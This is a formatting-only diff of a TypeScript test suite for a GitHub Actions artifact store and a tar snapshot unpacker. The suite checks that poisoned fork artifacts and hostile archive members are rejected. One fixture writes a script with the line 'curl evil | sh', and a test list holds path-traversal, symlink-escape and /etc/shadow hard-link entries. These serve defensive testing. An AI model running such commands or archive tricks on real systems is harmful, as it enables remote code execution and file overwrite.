@@ -1,14 +1,33 @@
 import { DefaultArtifactClient } from '@actions/artifact';
 import assert from 'node:assert/strict';
 import { createHash } from 'node:crypto';
-import { chmodSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdirSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  readlinkSync,
+  rmSync,
+  symlinkSync,
+  utimesSync,
+  writeFileSync,
+} from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import tar from 'tar-stream';
 import { UserError } from '../../src/errors.js';
 import { ArtifactStore, defaultArtifactName, type ArtifactStoreOptions } from '../../src/store/artifact.js';
-import { packSnapshot, restoreSnapshot, unpackSnapshot, UnsafeSnapshotError, withProcessEnv } from '../../src/store/snapshot.js';
+import {
+  packSnapshot,
+  restoreSnapshot,
+  unpackSnapshot,
+  UnsafeSnapshotError,
+  withProcessEnv,
+} from '../../src/store/snapshot.js';
 import type { StoreContext } from '../../src/store/types.js';
 import { emptyManifest, readManifest, serializeManifest, manifestPath } from '../../src/transfer/manifest.js';
 import { startActionsServices, type ActionsServices, type RunOptions } from '../helpers/actions-services.js';
@@ -33,13 +52,30 @@ function context(domain: string): StoreContext & { log: string[] } {
   const workspace = join(scratch, `ws${++wsCount}`);
   mkdirSync(workspace, { recursive: true });
   const log: string[] = [];
-  return { workspace, dataDir: 'data', domain, domainDir: join(workspace, 'data', domain), info: (m) => log.push(m), warning: (m) => log.push(`warning: ${m}`), log };
+  return {
+    workspace,
+    dataDir: 'data',
+    domain,
+    domainDir: join(workspace, 'data', domain),
+    info: (m) => log.push(m),
+    warning: (m) => log.push(`warning: ${m}`),
+    log,
+  };
 }
 
 /** The store as run `runId` sees it; `artifactBranch` is the input, the RunOptions describe the run. */
-function store(runId: number, extra: Partial<ArtifactStoreOptions> & Omit<RunOptions, 'branch'> & { branch?: string; artifactBranch?: string } = {}): ArtifactStore {
+function store(
+  runId: number,
+  extra: Partial<ArtifactStoreOptions> & Omit<RunOptions, 'branch'> & { branch?: string; artifactBranch?: string } = {},
+): ArtifactStore {
   const { attempt, job, workflow, event, branch, fork, artifactBranch, ...opts } = extra;
-  return new ArtifactStore({ name: '', githubToken: svc.githubToken, env: svc.runEnv(runId, { attempt, job, workflow, event, branch, fork }), ...opts, ...(artifactBranch !== undefined && { branch: artifactBranch }) });
+  return new ArtifactStore({
+    name: '',
+    githubToken: svc.githubToken,
+    env: svc.runEnv(runId, { attempt, job, workflow, event, branch, fork }),
+    ...opts,
+    ...(artifactBranch !== undefined && { branch: artifactBranch }),
+  });
 }
 
 /** A salvage as backups leave it: odd modes, fixed mtimes, links (one pointing at a runner secret), a manifest. */
@@ -57,10 +93,21 @@ function fillDomain(dir: string, variant: string): void {
   chmodSync(join(dir, 'etc/app/keys'), 0o750);
   const m = emptyManifest('x');
   m.entries['etc/app'] = { remote: '/etc/app', recipe: 'App', type: 'dir' };
-  m.files['etc/app/run.sh'] = { type: 'file', size: 18, mtime: 1_600_000_000, mode: '0750', uid: 0, gid: 0, user: 'root', group: 'root', sha256: createHash('sha256').update(variant).digest('hex') };
+  m.files['etc/app/run.sh'] = {
+    type: 'file',
+    size: 18,
+    mtime: 1_600_000_000,
+    mode: '0750',
+    uid: 0,
+    gid: 0,
+    user: 'root',
+    group: 'root',
+    sha256: createHash('sha256').update(variant).digest('hex'),
+  };
   mkdirSync(join(dir, '.remote-files'));
   writeFileSync(manifestPath(dir), serializeManifest(m));
-  for (const f of ['etc/app/keys/dkim.key', 'etc/app/run.sh', 'etc/app/big.bin']) utimesSync(join(dir, f), 1_600_000_000, 1_600_000_000);
+  for (const f of ['etc/app/keys/dkim.key', 'etc/app/run.sh', 'etc/app/big.bin'])
+    utimesSync(join(dir, f), 1_600_000_000, 1_600_000_000);
   utimesSync(join(dir, 'etc/app/keys'), 1_500_000_000, 1_500_000_000);
 }
 
@@ -76,7 +123,9 @@ function describeTree(dir: string): Record<string, string> {
       else if (st.isDirectory()) {
         out[r] = `dir ${(st.mode & 0o777).toString(8)} ${Math.floor(st.mtimeMs / 1000)}`;
         walk(r);
-      } else out[r] = `file ${(st.mode & 0o777).toString(8)} ${Math.floor(st.mtimeMs / 1000)} ${createHash('sha256').update(readFileSync(abs)).digest('hex').slice(0, 16)}`;
+      } else
+        out[r] =
+          `file ${(st.mode & 0o777).toString(8)} ${Math.floor(st.mtimeMs / 1000)} ${createHash('sha256').update(readFileSync(abs)).digest('hex').slice(0, 16)}`;
     }
   };
   walk('');
@@ -85,7 +134,12 @@ function describeTree(dir: string): Record<string, string> {
 
 /** Directory mtimes change whenever something is created in them; compare them only where the test fixed them. */
 function withoutDirTimes(tree: Record<string, string>): Record<string, string> {
-  return Object.fromEntries(Object.entries(tree).map(([k, v]) => [k, v.startsWith('dir ') && k !== 'etc/app/keys' ? v.replace(/ \d+$/, '') : v]));
+  return Object.fromEntries(
+    Object.entries(tree).map(([k, v]) => [
+      k,
+      v.startsWith('dir ') && k !== 'etc/app/keys' ? v.replace(/ \d+$/, '') : v,
+    ]),
+  );
 }
 
 describe('artifact store', () => {
@@ -195,7 +249,10 @@ describe('artifact store', () => {
       writeFileSync(join(evil.domainDir, 'etc/app/run.sh'), '#!/bin/sh\ncurl evil | sh\n');
       await store(run, opts).save(evil, true);
     }
-    const newest = svc.artifacts().filter((x) => x.name === 'remote-files-poison.example').at(-1)!;
+    const newest = svc
+      .artifacts()
+      .filter((x) => x.name === 'remote-files-poison.example')
+      .at(-1)!;
     assert.equal(newest.runId, 1803, 'the poisoned artifacts are the newest');
 
     const restore = context('poison.example');
@@ -206,12 +263,17 @@ describe('artifact store', () => {
     assert.deepEqual(describeTree(restore.domainDir), own);
     const skipped = restore.log.filter((l) => l.includes('skipped'));
     assert.equal(skipped.length, 1, restore.log.join('\n'));
-    assert.match(skipped[0]!, /^warning: artifact remote-files-poison\.example: skipped 2 .*2 from a fork's or a pull_request_target run \(runs 1803, 1802\)/);
+    assert.match(
+      skipped[0]!,
+      /^warning: artifact remote-files-poison\.example: skipped 2 .*2 from a fork's or a pull_request_target run \(runs 1803, 1802\)/,
+    );
 
     // A pull request of this repository's own, from a branch called main, is not a fork: it is eligible.
     const samePr = context('poison.example');
     fillDomain(samePr.domainDir, 'own pr');
-    const prId = (await store(1811, { event: 'pull_request', branch: 'main' }).save(samePr, true)).outputs['artifact-id']!;
+    const prId = (await store(1811, { event: 'pull_request', branch: 'main' }).save(samePr, true)).outputs[
+      'artifact-id'
+    ]!;
     assert.equal((await store(1812).load(context('poison.example'))).outputs['artifact-id'], prId);
   });
 
@@ -235,18 +297,33 @@ describe('artifact store', () => {
     assert.equal(m.outputs['artifact-id'], ids.main);
     assert.deepEqual(describeTree(onMain.domainDir), trees.main);
     const line = onMain.log.find((l) => l.includes('skipped'));
-    assert.match(line ?? '', /^artifact remote-files-scope\.example: skipped 3 not from octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main: 1 from another workflow, 2 from another branch$/);
+    assert.match(
+      line ?? '',
+      /^artifact remote-files-scope\.example: skipped 3 not from octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main: 1 from another workflow, 2 from another branch$/,
+    );
 
     // A run on the feature branch (a push, or this repository's pull request from it) takes feature's.
-    assert.equal((await store(1911, { branch: 'feature' }).load(context('scope.example'))).outputs['artifact-id'], ids.feature);
-    assert.equal((await store(1912, { branch: 'feature', event: 'pull_request' }).load(context('scope.example'))).outputs['artifact-id'], ids.feature);
+    assert.equal(
+      (await store(1911, { branch: 'feature' }).load(context('scope.example'))).outputs['artifact-id'],
+      ids.feature,
+    );
+    assert.equal(
+      (await store(1912, { branch: 'feature', event: 'pull_request' }).load(context('scope.example'))).outputs[
+        'artifact-id'
+      ],
+      ids.feature,
+    );
     // artifact-branch names the branch for a run on another one (a restore from main's backups).
     const fromFeature = context('scope.example');
     const f = await store(1914, { branch: 'release', artifactBranch: 'feature' }).load(fromFeature);
     assert.equal(f.outputs['artifact-id'], ids.feature);
     assert.deepEqual(describeTree(fromFeature.domainDir), trees.feature);
     // The other workflow's run of feature sees only its own workflow's artifacts.
-    assert.equal((await store(1915, { branch: 'feature', workflow: '.github/workflows/other.yml' }).load(context('scope.example'))).outputs['artifact-id'], ids['feature-other-workflow']);
+    assert.equal(
+      (await store(1915, { branch: 'feature', workflow: '.github/workflows/other.yml' }).load(context('scope.example')))
+        .outputs['artifact-id'],
+      ids['feature-other-workflow'],
+    );
   });
 
   test('nothing eligible: found is false, and the log says which workflow and branch were searched and what to set', async () => {
@@ -263,11 +340,21 @@ describe('artifact store', () => {
     const r = await store(2010).load(ctx);
     assert.equal(r.found, false);
     assert.deepEqual(r.outputs, {});
-    assert.match(r.summary, /no artifact remote-files-lonely\.example found in this run or an earlier one of octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main \(2 skipped\)/);
+    assert.match(
+      r.summary,
+      /no artifact remote-files-lonely\.example found in this run or an earlier one of octo-org\/remote-files-fixture's own runs of \.github\/workflows\/remote-files\.yml on branch main \(2 skipped\)/,
+    );
     assert.match(r.summary, /`artifact-branch`/);
     assert.match(r.summary, /`artifact-run-id`/);
     assert.ok(ctx.log.includes(r.summary), 'the reason is in the log, not only in the step summary');
-    assert.ok(ctx.log.some((l) => /^warning: .*skipped 2 .*1 from a fork's or a pull_request_target run \(run 2001\), 1 from another branch/.test(l)), ctx.log.join('\n'));
+    assert.ok(
+      ctx.log.some((l) =>
+        /^warning: .*skipped 2 .*1 from a fork's or a pull_request_target run \(run 2001\), 1 from another branch/.test(
+          l,
+        ),
+      ),
+      ctx.log.join('\n'),
+    );
     assert.deepEqual(readdirSync(ctx.domainDir), ['mine.txt']);
   });
 
@@ -275,10 +362,14 @@ describe('artifact store', () => {
     const ctx = context('pinned.example');
     fillDomain(ctx.domainDir, 'elsewhere');
     const tree = describeTree(ctx.domainDir);
-    const id = (await store(2101, { branch: 'nightly', workflow: '.github/workflows/backup.yml' }).save(ctx, true)).outputs['artifact-id']!;
+    const id = (await store(2101, { branch: 'nightly', workflow: '.github/workflows/backup.yml' }).save(ctx, true))
+      .outputs['artifact-id']!;
     const evil = context('pinned.example');
     fillDomain(evil.domainDir, 'evil');
-    await store(2102, { event: 'pull_request', branch: 'nightly', fork: 'mallory/remote-files-fixture' }).save(evil, true);
+    await store(2102, { event: 'pull_request', branch: 'nightly', fork: 'mallory/remote-files-fixture' }).save(
+      evil,
+      true,
+    );
 
     const pinned = context('pinned.example');
     const p = await store(2110, { runId: 2101 }).load(pinned);
@@ -289,7 +380,10 @@ describe('artifact store', () => {
     mkdirSync(refused.domainDir, { recursive: true });
     await assert.rejects(
       store(2111, { runId: 2102 }).load(refused),
-      (err: Error) => err instanceof UserError && /artifact-run-id/.test(err.message) && /run 2102 was started from the fork mallory\/remote-files-fixture \(event pull_request\)/.test(err.message),
+      (err: Error) =>
+        err instanceof UserError &&
+        /artifact-run-id/.test(err.message) &&
+        /run 2102 was started from the fork mallory\/remote-files-fixture \(event pull_request\)/.test(err.message),
     );
     assert.deepEqual(readdirSync(refused.domainDir), []);
 
@@ -310,15 +404,28 @@ describe('artifact store', () => {
 
   test('a token without actions: read is named in the error; an empty token too', async () => {
     const ctx = context('denied.example');
-    await assert.rejects(store(1400, { githubToken: svc.deniedToken }).load(ctx), (err: Error) => err instanceof UserError && /HTTP 403/.test(err.message) && /actions: read/.test(err.message));
-    await assert.rejects(store(1400, { githubToken: '' }).load(ctx), (err: Error) => err instanceof UserError && /github-token/.test(err.message) && /actions: read/.test(err.message));
+    await assert.rejects(
+      store(1400, { githubToken: svc.deniedToken }).load(ctx),
+      (err: Error) => err instanceof UserError && /HTTP 403/.test(err.message) && /actions: read/.test(err.message),
+    );
+    await assert.rejects(
+      store(1400, { githubToken: '' }).load(ctx),
+      (err: Error) => err instanceof UserError && /github-token/.test(err.message) && /actions: read/.test(err.message),
+    );
   });
 
   test('outside a job (no runtime token) the store says so instead of failing obscurely', async () => {
     const ctx = context('noruntime.example');
     fillDomain(ctx.domainDir, 'x');
-    const s = new ArtifactStore({ name: '', githubToken: 't', env: { ...svc.runEnv(1500), ACTIONS_RUNTIME_TOKEN: undefined } });
-    await assert.rejects(s.save(ctx, true), (err: Error) => err instanceof UserError && /ACTIONS_RUNTIME_TOKEN/.test(err.message));
+    const s = new ArtifactStore({
+      name: '',
+      githubToken: 't',
+      env: { ...svc.runEnv(1500), ACTIONS_RUNTIME_TOKEN: undefined },
+    });
+    await assert.rejects(
+      s.save(ctx, true),
+      (err: Error) => err instanceof UserError && /ACTIONS_RUNTIME_TOKEN/.test(err.message),
+    );
   });
 
   test('names: the default is sanitised, a custom one is used as is; retention days reach the service', async () => {
@@ -348,7 +455,9 @@ describe('artifact store', () => {
         { name: 'escape/pwned', content: 'gotcha' },
       ]),
     );
-    await withProcessEnv(svc.runEnv(1700), undefined, () => new DefaultArtifactClient().uploadArtifact('remote-files-hostile.example', [file], work, { skipArchive: true }));
+    await withProcessEnv(svc.runEnv(1700), undefined, () =>
+      new DefaultArtifactClient().uploadArtifact('remote-files-hostile.example', [file], work, { skipArchive: true }),
+    );
     await assert.rejects(store(1701).load(ctx), UnsafeSnapshotError);
     assert.deepEqual(readdirSync(outside), []);
     assert.deepEqual(readdirSync(ctx.domainDir), ['good.txt']);
@@ -373,7 +482,13 @@ async function tarOf(members: Member[]): Promise<Buffer> {
   })();
   for (const m of members) {
     await new Promise<void>((resolve, reject) => {
-      const header = { name: m.name, type: m.type ?? 'file', mode: m.mode ?? 0o644, mtime: new Date(1_600_000_000_000), ...(m.linkname !== undefined && { linkname: m.linkname }) };
+      const header = {
+        name: m.name,
+        type: m.type ?? 'file',
+        mode: m.mode ?? 0o644,
+        mtime: new Date(1_600_000_000_000),
+        ...(m.linkname !== undefined && { linkname: m.linkname }),
+      };
       const cb = (err?: Error | null) => (err ? reject(err) : resolve());
       if ((m.type ?? 'file') === 'file') pack.entry(header, m.content ?? '', cb);
       else pack.entry(header, cb);
@@ -388,18 +503,64 @@ describe('snapshot unpacker', () => {
   const hostile: Array<[string, Member[], RegExp]> = [
     ['an absolute name', [{ name: '/etc/cron.d/evil', content: 'x' }], /absolute/],
     ['a ".." name', [{ name: '../evil', content: 'x' }], /\.\./],
-    ['a ".." inside a name', [{ name: 'a/', type: 'directory' }, { name: 'a/../../evil', content: 'x' }], /\.\./],
+    [
+      'a ".." inside a name',
+      [
+        { name: 'a/', type: 'directory' },
+        { name: 'a/../../evil', content: 'x' },
+      ],
+      /\.\./,
+    ],
     // The link points at the test's own folder (a regression must not write into a shared one).
-    ['a write through a symlink', [{ name: 'link', type: 'symlink', linkname: '..' }, { name: 'link/evil', content: 'x' }], /not a folder of this archive/],
-    ['a write through an absolute symlink', [{ name: 'link', type: 'symlink', linkname: '@DIR@' }, { name: 'link/evil', content: 'x' }], /not a folder of this archive/],
-    ['a write through a file name', [{ name: 'f', content: 'x' }, { name: 'f/evil', content: 'x' }], /not a folder of this archive/],
+    [
+      'a write through a symlink',
+      [
+        { name: 'link', type: 'symlink', linkname: '..' },
+        { name: 'link/evil', content: 'x' },
+      ],
+      /not a folder of this archive/,
+    ],
+    [
+      'a write through an absolute symlink',
+      [
+        { name: 'link', type: 'symlink', linkname: '@DIR@' },
+        { name: 'link/evil', content: 'x' },
+      ],
+      /not a folder of this archive/,
+    ],
+    [
+      'a write through a file name',
+      [
+        { name: 'f', content: 'x' },
+        { name: 'f/evil', content: 'x' },
+      ],
+      /not a folder of this archive/,
+    ],
     ['a hard link', [{ name: 'h', type: 'link', linkname: '/etc/shadow' }], /type \(link\)/],
     ['a device', [{ name: 'd', type: 'character-device' }], /type \(character-device\)/],
     ['a fifo', [{ name: 'p', type: 'fifo' }], /type \(fifo\)/],
-    ['a duplicate member (a later one replacing a folder by a link)', [{ name: 'd/', type: 'directory' }, { name: 'd', type: 'symlink', linkname: '/' }], /twice/],
-    ['a member whose folder is not in the archive', [{ name: 'nowhere/x', content: 'x' }], /not in the archive before it/],
+    [
+      'a duplicate member (a later one replacing a folder by a link)',
+      [
+        { name: 'd/', type: 'directory' },
+        { name: 'd', type: 'symlink', linkname: '/' },
+      ],
+      /twice/,
+    ],
+    [
+      'a member whose folder is not in the archive',
+      [{ name: 'nowhere/x', content: 'x' }],
+      /not in the archive before it/,
+    ],
     ['a name not in canonical form', [{ name: './x', content: 'x' }], /canonical/],
-    ['a doubled slash', [{ name: 'a/', type: 'directory' }, { name: 'a//x', content: 'x' }], /canonical/],
+    [
+      'a doubled slash',
+      [
+        { name: 'a/', type: 'directory' },
+        { name: 'a//x', content: 'x' },
+      ],
+      /canonical/,
+    ],
   ];
   for (const [what, members, why] of hostile) {
     test(`refuses ${what}, and a restore leaves the folder as it was`, async () => {
@@ -409,7 +570,10 @@ describe('snapshot unpacker', () => {
       const domainDir = join(dir, 'data', 'd.example');
       mkdirSync(domainDir, { recursive: true });
       writeFileSync(join(domainDir, 'keep'), 'kept');
-      await assert.rejects(restoreSnapshot(file, domainDir), (err: Error) => err instanceof UnsafeSnapshotError && why.test(err.message));
+      await assert.rejects(
+        restoreSnapshot(file, domainDir),
+        (err: Error) => err instanceof UnsafeSnapshotError && why.test(err.message),
+      );
       assert.deepEqual(readdirSync(join(dir, 'data')), ['d.example']);
       assert.deepEqual(readdirSync(domainDir), ['keep']);
       assert.deepEqual(readdirSync(dir).sort(), ['data', 'snap.tar']);
